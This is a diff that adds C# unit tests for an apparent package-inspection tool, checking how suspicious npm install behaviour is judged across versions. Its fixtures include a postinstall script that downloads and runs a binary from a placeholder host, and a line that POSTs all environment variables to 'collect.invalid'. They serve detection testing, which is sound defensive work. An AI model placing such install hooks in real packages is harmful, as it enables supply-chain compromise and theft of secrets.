@@ -1,0 +1,78 @@
+using PackageWall.Inspection.Changes;
+using PackageWall.Inspection.Reports;
+using PackageWall.Inspection.Tests.Catalogue;
+using PackageWall.Packages;
+using PackageWall.Testing.Packages;
+
+namespace PackageWall.Inspection.Tests.Changes;
+
+/// <summary>A version is not held for what its released forerunner was released with, and for anything else it is.</summary>
+public sealed class ReleasedBeforeTests
+{
+    private const string Fetches = """
+        const fs = require("fs");
+        const https = require("https");
+        const { execFileSync } = require("child_process");
+        https.get("https://dist.sample.invalid/sample-linux", reply => {
+          const out = fs.createWriteStream("bin/sample");
+          reply.pipe(out);
+          out.on("finish", () => { fs.chmodSync("bin/sample", 0o755); execFileSync("bin/sample", ["--version"]); });
+        });
+        """;
+
+    private static InspectionReport Of(string version, string install, string index = "exports.x = 1;", InspectionReport? earlier = null, string command = "node install.js") => CatalogueInspection.Of(
+        Ecosystem.Npm,
+        $"sample-{version}.tgz",
+        new NpmPackageBuilder("sample", version).Script("postinstall", command).File("index.js", index).File("install.js", install).Build(),
+        earlier);
+
+    [Fact]
+    public void The_same_evidence_in_the_next_version_is_a_note()
+    {
+        InspectionReport first = Of("1.0.0", Fetches);
+        first.Verdict.ShouldBe(Verdict.Suspicious);
+        first.Profile.Held.ShouldNotBeEmpty();
+
+        InspectionReport next = Of("1.0.1", Fetches, "exports.x = 2;", first);
+        next.Verdict.ShouldBe(Verdict.Clean, CatalogueInspection.Told(next));
+        Finding note = next.Findings.Single(finding => finding.Rule == "install-fetches-program");
+        note.Pinned!.Verdict.ShouldBe(Verdict.Suspicious);
+        note.Pinned.Seen.ShouldBe("1.0.0");
+        next.Profile.Held.ShouldBe(first.Profile.Held);
+    }
+
+    [Theory]
+    [InlineData("other host", "dist.sample.invalid", "dist.sample-cdn.invalid")]
+    [InlineData("other program", "bin/sample\"", "bin/other\"")]
+    [InlineData("one thing more", "exec", "require('child_process').exec('sh x'); exec")]
+    public void Other_evidence_holds_again(string what, string before, string after)
+    {
+        InspectionReport next = Of("1.0.1", Fetches.Replace(before, after, StringComparison.Ordinal), earlier: Of("1.0.0", Fetches));
+        next.Verdict.ShouldNotBe(Verdict.Clean, what);
+    }
+
+    [Fact]
+    public void A_new_host_elsewhere_holds_again() =>
+        Of("1.0.1", Fetches, "require('https').get('https://new.invalid/x');", Of("1.0.0", Fetches)).Verdict.ShouldBe(Verdict.Suspicious);
+
+    [Fact]
+    public void A_new_ability_elsewhere_holds_again() =>
+        Of("1.0.1", Fetches, "require('child_process').exec('ls');", Of("1.0.0", Fetches)).Verdict.ShouldBe(Verdict.Suspicious);
+
+    [Fact]
+    public void What_nobody_can_read_is_held_every_time()
+    {
+        InspectionReport first = Of("1.0.0", "", command: "perl install.js");
+        first.Verdict.ShouldBe(Verdict.Suspicious);
+        Of("1.0.1", "print 1;", earlier: first, command: "perl install.js").Verdict.ShouldBe(Verdict.Suspicious);
+    }
+
+    [Fact]
+    public void What_is_malicious_stays_so()
+    {
+        const string Harvest = "require('https').request({ hostname: 'collect.invalid', method: 'POST' }).end(JSON.stringify(process.env));";
+        InspectionReport first = Of("1.0.0", Harvest);
+        first.Verdict.ShouldBe(Verdict.Malicious);
+        Of("1.0.1", Harvest, earlier: first).Verdict.ShouldBe(Verdict.Malicious);
+    }
+}
